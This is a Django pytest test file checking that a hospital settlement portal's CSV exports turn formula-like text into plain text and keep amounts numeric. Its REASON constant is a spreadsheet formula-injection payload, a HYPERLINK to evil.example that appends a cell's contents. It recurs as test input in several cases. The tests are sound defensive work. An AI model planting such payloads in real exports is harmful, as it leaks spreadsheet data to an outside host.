"""The hospital's CSV of its settlements opened in Excel or WPS: text someone typed (a
reviewer's reason, a name) is never a formula there, and amounts stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal as D

import pytest
from django.urls import reverse

from portal.lib.text import spreadsheet_text
from portal.models import InsuredPerson
from settlement import services
from settlement.models import Settlement
from tests.settlement.test_hospital_settlements import CHEN, H1, _settle
from tests.settlement.test_stats import make_settlements, sign_in, world  # noqa: F401

REASON = '=HYPERLINK("http://evil.example/?"&A1,"详情")'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (REASON, "'" + REASON),
        ("+86 10 1234", "'+86 10 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("发票金额有误", "发票金额有误"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_text_cell_that_would_start_a_formula_is_made_plain_text(text, shown):
    assert spreadsheet_text(text) == shown


def _rows(client, demo, **query) -> list[list[str]]:
    sign_in(client, demo["hosp_h23010300001"])
    client.cookies["django_language"] = "zh-hans"
    response = client.get(reverse("hospital-settlements-csv"), query)
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.django_db
def test_a_reviewers_reason_and_a_name_are_not_formulas_in_the_hospitals_csv(client, demo):
    from tests.settlement.test_claims import _staff

    held = _settle(H1, who=CHEN, emergency=True)
    services.settlement_reject(settlement=held, actor=_staff(), reason=REASON)
    InsuredPerson.objects.filter(pk=held.person_id).update(name="=陈明")
    rows = _rows(client, demo, status="rejected")
    header, row = rows
    assert row[header.index("审核意见")] == "'" + REASON
    assert row[4].startswith("'=")  # the masked name
    assert row[0] == held.number  # what is no formula is as it was


@pytest.mark.django_db
def test_amounts_stay_numbers_in_the_hospitals_csv_a_negative_one_too(client, demo):
    held = _settle(H1, who=CHEN, emergency=True)
    # No settlement is negative today; a correction might be: it is still a number.
    Settlement.objects.filter(pk=held.pk).update(fund_pay=held.total + 100, person_pay=D("-100.00"))
    held.refresh_from_db()
    rows = _rows(client, demo, status="held_for_review")
    assert rows[1][7:10] == [str(held.total), str(held.fund_pay), str(held.person_pay)]
    assert rows[1][9].startswith("-")


@pytest.mark.django_db
def test_a_region_named_like_a_formula_is_plain_text_in_the_dashboard_csv(
    client,
    world,  # noqa: F811 - the fixture
):
    from portal.models import Region

    make_settlements(world, 30)
    Region.objects.filter(code="460200").update(name=REASON)
    sign_in(client, world["staff"]["232700"].user)
    client.cookies["django_language"] = "zh-hans"
    response = client.get(reverse("settlement:dashboard-csv", args=["by-place-of-treatment"]))
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    labels = [row[1] for row in table[1:]]
    assert "'" + REASON in labels
    assert "哈尔滨市" in labels  # an ordinary name is as it was
